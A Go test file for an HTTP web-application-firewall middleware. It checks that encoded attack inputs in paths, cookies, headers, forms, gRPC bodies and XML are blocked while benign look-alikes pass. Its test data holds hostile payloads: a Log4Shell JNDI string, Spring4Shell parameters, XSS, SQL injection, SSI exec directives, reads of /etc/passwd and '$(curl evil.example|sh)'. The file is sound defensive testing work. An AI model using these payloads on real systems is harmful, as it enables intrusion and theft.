package guardhttp_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"go.uber.org/zap"

	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/middleware/guardhttp"
)

// TestBase64Placements: base64 text is judged in the last segments of a
// URL path and when it is sent URL-encoded (a cookie's %3D padding), as in
// a query value; benign base64 and benign paths pass.
func TestBase64Placements(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, c := range []struct {
		name string
		req  func() *http.Request
		want int
	}{
		{"path segment", func() *http.Request { return pathReq("/api/" + b64("{{config.items()}}") + "/x") }, 403},
		{"path tail with a slash in the base64", func() *http.Request { return pathReq("/api/" + b64("<!--#exec cmd=\"id\"-->")) }, 403},
		{"cookie with escaped padding", func() *http.Request {
			r := httptest.NewRequest("GET", "/api", nil)
			r.Header.Set("Cookie", "sid="+url.QueryEscape(b64("${jndi:ldap://x/a}")))
			return r
		}, 403},
		{"benign base64 in a path", func() *http.Request { return pathReq("/files/" + b64("hello, world: a plain note") + "/view") }, 200},
		{"benign escaped base64 cookie", func() *http.Request {
			r := httptest.NewRequest("GET", "/api", nil)
			r.Header.Set("Cookie", "sid="+url.QueryEscape(b64("session 42 of user bob?")))
			return r
		}, 200},
		{"benign path", func() *http.Request { return pathReq("/api/v1/users/profile/settings/notifications") }, 200},
		{"Spring4Shell form field name", func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&a=1"))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			return r
		}, 403},
		{"Spring4Shell query parameter name", func() *http.Request {
			return httptest.NewRequest("GET", "/api?class.module.classLoader.URLs%5B0%5D=0", nil)
		}, 403},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := httptest.NewRecorder()
			h.ServeHTTP(w, c.req())
			if w.Code != c.want {
				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
			}
		})
	}
}

func pathReq(raw string) *http.Request {
	r := httptest.NewRequest("GET", "/", nil)
	r.URL.RawPath = raw
	r.URL.Path, _ = url.PathUnescape(raw)
	r.RequestURI = raw
	return r
}

// TestEncodedPlacements: base64 text is judged where a WAF test tool puts
// it and a handler may decode it: a query or form parameter's name, a
// short value (8 to 15 characters, "{{7*7}}" encoded), and a value sent
// unescaped in a query or form, whose '+' the URL decoding turned into a
// blank. Benign look-alikes pass: short tokens and names of two letter
// cases, prose with blanks, base64 of plain text in a name.
func TestEncodedPlacements(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	raw := func(s string) string { return base64.RawStdEncoding.EncodeToString([]byte(s)) }
	get := func(target string) func() *http.Request {
		return func() *http.Request { return httptest.NewRequest("GET", target, nil) }
	}
	form := func(body string) func() *http.Request {
		return func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader(body))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			return r
		}
	}
	header := func(v string) func() *http.Request {
		return func() *http.Request {
			r := httptest.NewRequest("GET", "/api", nil)
			r.Header.Set("X-Data", v)
			return r
		}
	}
	for _, c := range []struct {
		name string
		req  func() *http.Request
		want int
	}{
		{"query parameter name", get("/api?" + url.QueryEscape(b64("<svg onload=alert(1)>")) + "=1"), 403},
		{"query parameter name unpadded", get("/api?" + raw("' or 1=1 limit 1 -- -") + "=1"), 403},
		{"form field name", form(url.QueryEscape(b64("; cat /etc/passwd")) + "=x"), 403},
		{"short padded value in a header", header(b64("{{7*7}}")), 403},
		{"short unpadded value in a header", header(raw("${7*7}")), 403},
		{"unescaped '+' read as a blank in a query", get("/api?q=" + b64("<script>alert(document.domain)</script>")), 403},
		{"unescaped '+' read as a blank in a form", form("q=" + b64("<svg onload=alert(1)>")), 403},

		{"benign short tokens", get("/api?token=Password1&ref=abcdEFGH12&v=Zm9vYmFy"), 200},
		{"benign camelCase names", get("/api?utm_campaignName=spring&customerAccountIds=4,5"), 200},
		{"benign prose with blanks", get("/api?q=Hello+World+2024+Summer+Sale"), 200},
		{"benign base64 name", get("/api?" + url.QueryEscape(b64("page two of the report")) + "=1"), 200},
		{"benign base64 value with '+' unescaped", get("/api?q=" + b64("Status: shipped >> next week")), 200},
		{"benign short base64 in a header", header(b64("hello!")), 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := httptest.NewRecorder()
			h.ServeHTTP(w, c.req())
			if w.Code != c.want {
				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
			}
		})
	}
}

// grpcFrame frames one message: the flag byte, the big-endian length.
func grpcFrame(flag byte, msg []byte) []byte {
	n := len(msg)
	return append([]byte{flag, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}, msg...)
}

// pbString is a protobuf length-delimited field (a string or a message).
func pbString(field int, v []byte) []byte {
	b := []byte{byte(field<<3 | 2)}
	n := len(v)
	for n >= 0x80 {
		b = append(b, byte(n)|0x80)
		n >>= 7
	}
	return append(append(b, byte(n)), v...)
}

// TestGRPCBodies: a gRPC body is read by its frames and each message as
// protobuf, so that its string fields are judged as values (base64 in
// them decoded, as anywhere); gRPC-Web's text form is base64 of the same
// frames. Benign messages, a varint field and a trailer frame pass; a body
// that is not whole frames is judged as text, as before.
func TestGRPCBodies(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
	b64 := func(s string) []byte { return []byte(base64.StdEncoding.EncodeToString([]byte(s))) }
	post := func(ctype string, body []byte) *http.Request {
		r := httptest.NewRequest("POST", "/shop.Items/Lookup", bytes.NewReader(body))
		r.Header.Set("Content-Type", ctype)
		return r
	}
	nested := pbString(2, append(pbString(1, []byte("order 7")), pbString(3, b64("$(curl evil.example|sh)"))...))
	benign := append(append(pbString(1, []byte("blue running shoes, size 42")), 0x10, 0x96, 0x01), pbString(2, pbString(1, b64("page two of the report")))...)
	for _, c := range []struct {
		name string
		req  *http.Request
		want int
	}{
		{"base64 string field", post("application/grpc", grpcFrame(0, pbString(1, b64("{{config.items()}}")))), 403},
		{"base64 in a nested message", post("application/grpc+proto", grpcFrame(0, nested)), 403},
		{"second frame", post("application/grpc", append(grpcFrame(0, pbString(1, []byte("ok"))), grpcFrame(0, pbString(1, b64("' or 1=1--")))...)), 403},
		{"gRPC-Web text", post("application/grpc-web-text", b64(string(grpcFrame(0, pbString(1, b64("<svg onload=alert(1)>")))))), 403},
		{"bare protobuf", post("application/x-protobuf", pbString(4, b64("../../../../etc/passwd"))), 403},

		{"benign message", post("application/grpc", grpcFrame(0, benign)), 200},
		{"benign with a trailer frame", post("application/grpc-web+proto", append(grpcFrame(0, benign), grpcFrame(0x80, []byte("grpc-status: 0\r\ngrpc-message: OK\r\n"))...)), 200},
		{"not whole frames, judged as text", post("application/grpc", []byte("\x00\x00\x00\x00\xff; cat /etc/passwd")), 403},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := httptest.NewRecorder()
			h.ServeHTTP(w, c.req)
			if w.Code != c.want {
				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
			}
		})
	}
}

// TestCharRefSplitValues: a value written as character references and
// sent unescaped is cut by the query, form and cookie parsers at each
// reference's '&' or ';'; the pieces are joined back and judged as the
// value they were. Benign text written the same way, an HTML-escaped link
// ("&amp;" between parameters) and ordinary cookies pass.
func TestCharRefSplitValues(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
	hexRefs := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, "&#x%x;", r)
		}
		return b.String()
	}
	decRefs := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, "&#%d;", r)
		}
		return b.String()
	}
	query := func(q string) func() *http.Request {
		return func() *http.Request {
			return httptest.NewRequest("GET", "/api?"+strings.ReplaceAll(strings.ReplaceAll(q, "#", "%23"), " ", "%20"), nil)
		}
	}
	form := func(body string) func() *http.Request {
		return func() *http.Request {
			r := httptest.NewRequest("POST", "/api", strings.NewReader(body))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			return r
		}
	}
	cookie := func(c string) func() *http.Request {
		return func() *http.Request {
			r := httptest.NewRequest("GET", "/api", nil)
			r.Header.Set("Cookie", c)
			return r
		}
	}
	referer := func(u string) func() *http.Request {
		return func() *http.Request {
			r := httptest.NewRequest("GET", "/api", nil)
			r.Header.Set("Referer", u)
			return r
		}
	}
	for _, c := range []struct {
		name string
		req  func() *http.Request
		want int
	}{
		{"query value", query("id=7&q=" + hexRefs("<script>alert(1)</script>") + "&page=2"), 403},
		{"query name", query(decRefs("' or '1'='1") + "=1"), 403},
		{"form value", form("q=" + hexRefs("; cat /etc/passwd") + "&x=1"), 403},
		{"form value, decimal references", form("a=1&q=" + decRefs("{{7*7}}")), 403},
		{"named references in a form", form("q=&lt;svg onload=alert(1)&gt;"), 403},
		{"cookie value", cookie("sid=abc; pref=" + hexRefs("../../../../etc/passwd")), 403},
		{"Referer query value", referer("https://shop.example/search?q=" + hexRefs("<svg onload=alert(1)>")), 403},

		{"benign query value", query("q=" + hexRefs("Tom's diner, 5th & Main")), 200},
		{"benign HTML-escaped link", query("page=2&amp;sort=price&amp;dir=asc"), 200},
		{"benign form value", form("note=" + decRefs("cats & dogs | birds") + "&n=3"), 200},
		{"benign cookie value", cookie("pref=" + hexRefs("Smith & Wesson; Ruger; Colt") + "; theme=dark"), 200},
		{"benign cookies", cookie("a=1; b=two; c=&x; d=4"), 200},
		{"benign Referer query", referer("https://shop.example/list?page=2&amp;dir=asc&q=" + decRefs("Smith & Wesson; Ruger")), 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := httptest.NewRecorder()
			h.ServeHTTP(w, c.req())
			if w.Code != c.want {
				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
			}
		})
	}
}

// TestXMLIncludeDirective: a server-side include directive sent in an XML
// or SOAP body is an XML comment to the parser, and judged; ordinary
// comments (and #region markers) pass.
func TestXMLIncludeDirective(t *testing.T) {
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()))
	if err != nil {
		t.Fatal(err)
	}
	h := guardhttp.Handler(g, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) }))
	soap := func(inner string) string {
		return `<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><ns:find xmlns:ns="urn:shop"><ns:q>` + inner + `</ns:q></ns:find></soapenv:Body></soapenv:Envelope>`
	}
	for _, c := range []struct {
		name, ctype, body string
		want              int
	}{
		{"exec in SOAP", "text/xml", soap(`<!--#exec cmd="ls" -->`), 403},
		{"include in XML", "application/xml", `<order><note><!--#include virtual="/etc/passwd" --></note></order>`, 403},
		{"benign comments", "application/xml", `<order><!-- v2 schema --><note>blue shoes</note><!--#region totals--><sum>4</sum><!--#endregion--></order>`, 200},
		{"benign SOAP", "text/xml", soap(`red shoes <!-- size checked -->`), 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := httptest.NewRequest("POST", "/ws", strings.NewReader(c.body))
			r.Header.Set("Content-Type", c.ctype)
			w := httptest.NewRecorder()
			h.ServeHTTP(w, r)
			if w.Code != c.want {
				t.Errorf("status %d, want %d (body %s)", w.Code, c.want, strings.TrimSpace(w.Body.String()))
			}
		})
	}
}
